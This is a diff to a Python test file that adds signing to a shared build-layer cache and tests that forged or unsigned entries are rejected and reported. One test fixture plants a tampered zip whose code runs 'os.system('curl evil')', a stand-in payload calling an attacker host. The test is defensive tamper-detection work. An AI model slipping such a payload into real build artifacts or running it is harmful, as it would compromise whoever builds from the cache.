@@ -9,12 +9,13 @@ from pathlib import Path
 
 import pytest
 
-from genesys_tasks.build.cache import LayerCache
+from genesys_tasks.build.cache import LayerCache, SignedStore
 from genesys_tasks.config.cache_url import cache_url
 from genesys_tasks.config.runtimes_file import load_registry
 from genesys_tasks.errors import AwsError, ConfigError
 
 KEY = "ab" * 32
+SECRET = b"s" * 32
 
 
 class MemoryStore:
@@ -49,7 +50,7 @@ def a_zip(path: Path, content: bytes = b"x = 1\n") -> Path:
 
 def shared_entry(tmp_path: Path, store: MemoryStore) -> bytes:
     """An entry machine A built and shared; returns its zip's bytes."""
-    here = LayerCache(tmp_path / "machine-a", store)
+    here = LayerCache(tmp_path / "machine-a", SignedStore(store, SECRET))
     here.put(KEY, a_zip(tmp_path / "built.zip"), {"runtime": "python3.12", "arch": "arm64"})
     here.share(KEY)
     return (tmp_path / "built.zip").read_bytes()
@@ -60,7 +61,7 @@ def test_an_entry_shared_by_one_machine_is_fetched_verified_and_kept_by_another(
     built = shared_entry(tmp_path, store)
     assert set(store.objects) == {f"layers/{KEY}.zip", f"layers/{KEY}.json"}
 
-    there = LayerCache(tmp_path / "machine-b", store)
+    there = LayerCache(tmp_path / "machine-b", SignedStore(store, SECRET))
     assert there.get(KEY) is None
     fetched = there.fetch(KEY)
 
@@ -85,14 +86,46 @@ def test_a_corrupt_or_partial_shared_entry_is_ignored(tmp_path, damage):
         store.objects[record] = b"{not json"
     else:
         del store.objects[zip_name]
-    there = LayerCache(tmp_path / "machine-b", store)
+    there = LayerCache(tmp_path / "machine-b", SignedStore(store, SECRET))
     assert there.fetch(KEY) is None
     assert there.entries() == [] and not any(there.work.iterdir())
 
 
+@pytest.mark.parametrize("forger", ["a bucket writer", "another secret"])
+def test_an_entry_and_its_record_both_rewritten_are_rejected_and_reported_once(tmp_path, forger):
+    store = MemoryStore()
+    shared_entry(tmp_path, store)
+    evil = a_zip(tmp_path / "evil.zip", b"import os; os.system('curl evil')\n").read_bytes()
+    import hashlib
+
+    record = json.loads(store.objects[f"layers/{KEY}.json"])
+    record.update(size=len(evil), sha256=hashlib.sha256(evil).hexdigest())
+    if forger == "another secret":
+        record = SignedStore(store, b"x" * 32).seal(KEY, record)
+    store.objects.update({f"layers/{KEY}.zip": evil, f"layers/{KEY}.json": json.dumps(record).encode()})
+
+    heard = []
+    there = LayerCache(tmp_path / "machine-b", SignedStore(store, SECRET), notify=heard.append)
+    assert there.fetch(KEY) is None and there.entries() == []
+    assert len(heard) == 1 and "not signed with GENESYS_CACHE_KEY" in heard[0]
+
+
+def test_without_a_secret_the_store_is_neither_read_nor_written_and_that_is_said_once(tmp_path):
+    store, heard = MemoryStore(), []
+    shared_entry(tmp_path, store)
+    unsigned = SignedStore(store, None)
+    for machine in ("b", "c"):  # two functions' caches in one run share the store
+        cache = LayerCache(tmp_path / machine, unsigned, notify=heard.append)
+        assert cache.fetch(KEY) is None
+        cache.put(KEY, a_zip(tmp_path / "other.zip", b"y = 2\n"), {})
+        cache.share(KEY)
+    assert [c for c in store.calls if c[0] == "get"] == [] and len(heard) == 1
+    assert "GENESYS_CACHE_KEY is not set" in heard[0]
+
+
 def test_an_unreachable_store_is_reported_once_and_the_build_goes_on_without_it(tmp_path):
     store, heard = MemoryStore(fail=True), []
-    cache = LayerCache(tmp_path / "cache", store, notify=heard.append)
+    cache = LayerCache(tmp_path / "cache", SignedStore(store, SECRET), notify=heard.append)
     assert cache.fetch(KEY) is None
     cache.put(KEY, a_zip(tmp_path / "built.zip"), {})
     cache.share(KEY)
